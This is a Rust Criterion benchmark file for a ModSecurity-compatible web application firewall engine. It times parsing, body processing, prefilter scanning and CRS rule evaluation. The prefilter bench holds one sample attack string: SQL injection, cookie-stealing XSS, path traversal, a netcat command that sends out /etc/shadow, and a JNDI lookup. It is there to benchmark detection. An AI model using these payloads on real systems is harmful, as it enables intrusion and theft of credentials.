//! Criterion benches of the engine's hot paths, through the public API and with the rules of
//! ModSecurity's benchmark harness (`shared/bench/modsec/conf`):
//!
//! - `transaction/*`: a transaction's setup (from the pool) and the request line and headers;
//! - `arguments/*`: query-string and cookie parsing into `ARGS`/`REQUEST_COOKIES`;
//! - `body_processor/*`: each body processor in a whole transaction with no CRS rules
//!   (`base-only.conf`: only the rules that pick the JSON/XML processors);
//! - `prefilter/*`: one scan of a value for the literals of every CRS PL1 rule;
//! - `memo_prefilter/*`: CRS PL1 on a page GET with the memo and prefilter on or off (what
//!   transforming once and scanning once buy);
//! - `crs_pl1/*`: rule evaluation in whole transactions with CRS v4 PL1 for a typical page GET,
//!   form POST and a 4 KiB JSON POST from the shared corpus.
//!
//! `cargo bench -p palisade --bench hot_paths`.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

#[path = "common.rs"]
mod common;

use std::hint::black_box;
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use palisade::replay::{self, Request};

fn config() -> Criterion {
    Criterion::default()
        .sample_size(20)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3))
}

fn request_line_and_headers(waf: &palisade::Waf, r: &Request, query: bool) {
    let mut tx = waf.transaction();
    tx.process_connection("198.18.0.7", 30007, "198.18.255.1", 443);
    let uri = if query {
        r.uri.as_str()
    } else {
        r.uri.split('?').next().unwrap_or("/")
    };
    tx.process_uri(uri, &r.method, "1.1");
    for (k, v) in &r.headers {
        tx.add_request_header(k, v);
    }
    black_box(&tx);
}

fn transaction(c: &mut Criterion) {
    let waf = common::waf("crs4-pl1");
    let corpus = common::corpus();
    let page = common::typical(&corpus, "page");
    let mut g = c.benchmark_group("transaction");
    g.bench_function("new_and_drop", |b| b.iter(|| black_box(waf.transaction())));
    g.bench_function("request_line_and_headers", |b| {
        b.iter(|| request_line_and_headers(&waf, &page, true))
    });
    g.finish();
}

fn arguments(c: &mut Criterion) {
    let waf = common::waf("crs4-pl1");
    let mut g = c.benchmark_group("arguments");
    let query = "/search?q=%22red+shoes%22+women%27s&category=footwear&sort=price_asc&page=2\
                 &utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale\
                 &gclid=EAIaIQobChMI8fW9yM2AhQMVh5BQBh0";
    g.throughput(Throughput::Bytes(query.len() as u64));
    g.bench_function("query_8_params", |b| {
        b.iter(|| {
            let mut tx = waf.transaction();
            tx.process_uri(black_box(query), "GET", "1.1");
            black_box(&tx);
        })
    });
    g.bench_function("no_query_baseline", |b| {
        b.iter(|| {
            let mut tx = waf.transaction();
            tx.process_uri(black_box("/search"), "GET", "1.1");
            black_box(&tx);
        })
    });
    let cookie = "sessionid=k2v8n1x0q7w3e5r9t4y6u2i8o0p1a3s5; csrftoken=0WlXDzuERbRWaMKKLZHWpawafUEPEhM1; \
                  _ga=GA1.1.457626522.1709407323; _ga_X1Y2Z3=GS1.1.1714500000.3.1.1714500100.0.0.0; \
                  cookie_consent=necessary%2Canalytics; theme=dark; lang=en-US; cart=3";
    g.throughput(Throughput::Bytes(cookie.len() as u64));
    g.bench_function("cookie_8_cookies", |b| {
        b.iter(|| {
            let mut tx = waf.transaction();
            tx.add_request_header("Cookie", black_box(cookie));
            black_box(&tx);
        })
    });
    g.finish();
}

fn xml_request() -> Request {
    let mut body = String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<order id=\"o-1\">");
    for i in 0..20 {
        body.push_str(&format!(
            "<item sku=\"SKU-{i:04}\"><name>Cotton shirt &amp; tie</name><qty>{}</qty></item>",
            i % 4 + 1
        ));
    }
    body.push_str("</order>");
    Request {
        id: 77,
        method: "POST".into(),
        uri: "/soap/orders".into(),
        version: "HTTP/1.1".into(),
        headers: vec![
            ("Host".into(), "api.example.com".into()),
            ("Content-Type".into(), "application/xml".into()),
            ("Content-Length".into(), body.len().to_string()),
        ],
        body: body.into_bytes(),
    }
}

fn body_processors(c: &mut Criterion) {
    let waf = common::waf("base-only");
    let corpus = common::corpus();
    let cases = [
        ("none_get", common::typical(&corpus, "page")),
        ("urlencoded", common::typical(&corpus, "form")),
        ("multipart", common::typical(&corpus, "multipart")),
        ("json", common::typical(&corpus, "json")),
        ("xml", xml_request()),
    ];
    let mut g = c.benchmark_group("body_processor");
    for (name, r) in &cases {
        g.throughput(Throughput::Bytes(r.body.len().max(1) as u64));
        g.bench_function(format!("{name}_{}B", r.body.len()), |b| {
            b.iter(|| black_box(replay::run_untimed(&waf, r)))
        });
    }
    g.finish();
}

fn prefilter(c: &mut Criterion) {
    let waf = common::waf("crs4-pl1");
    let pf = &waf.ruleset().prefilter;
    let mut out = vec![0u64; pf.words()];
    let benign = "We loved the hotel, the breakfast was great and the staff were friendly. \
                  Would book again for a weekend trip with the kids; parking was easy too. "
        .repeat(8);
    let attack = "1' UNION SELECT username, password FROM users-- <script>alert(document.cookie)\
                  </script> ../../etc/passwd ; cat /etc/shadow | nc 10.0.0.1 4444 ${jndi:ldap://x} "
        .repeat(6);
    let mut g = c.benchmark_group("prefilter");
    for (name, v) in [("benign_text", &benign), ("attack_text", &attack)] {
        g.throughput(Throughput::Bytes(v.len() as u64));
        g.bench_function(format!("scan_{name}_{}B", v.len()), |b| {
            b.iter(|| {
                pf.scan(black_box(v.as_bytes()), &mut out);
                black_box(&out);
            })
        });
    }
    g.finish();
}

fn memo_prefilter(c: &mut Criterion) {
    let corpus = common::corpus();
    let page = common::typical(&corpus, "page");
    let json = common::json_near(&corpus, 4096);
    let mut g = c.benchmark_group("memo_prefilter");
    for (label, memo, pf) in [
        ("memo_on_prefilter_on", true, true),
        ("memo_on_prefilter_off", true, false),
        ("memo_off_prefilter_off", false, false),
    ] {
        let waf = common::waf_with("crs4-pl1", memo, pf);
        g.bench_function(format!("page_get/{label}"), |b| {
            b.iter(|| black_box(replay::run_untimed(&waf, &page)))
        });
        g.bench_function(format!("json_4KiB/{label}"), |b| {
            b.iter(|| black_box(replay::run_untimed(&waf, &json)))
        });
    }
    g.finish();
}

fn crs_pl1(c: &mut Criterion) {
    let waf = common::waf("crs4-pl1");
    let corpus = common::corpus();
    let cases = [
        ("page_get", common::typical(&corpus, "page")),
        ("form_post", common::typical(&corpus, "form")),
        ("json_post_4KiB", common::json_near(&corpus, 4096)),
    ];
    let mut g = c.benchmark_group("crs_pl1");
    for (name, r) in &cases {
        // Decisions are those of ModSecurity: these benign requests pass.
        assert!(!replay::run_untimed(&waf, r).disruptive, "{name} blocked");
        g.bench_function(*name, |b| {
            b.iter(|| black_box(replay::run_untimed(&waf, r)))
        });
    }
    g.finish();
}

criterion_group! {
    name = benches;
    config = config();
    targets = transaction, arguments, body_processors, prefilter, memo_prefilter, crs_pl1
}
criterion_main!(benches);
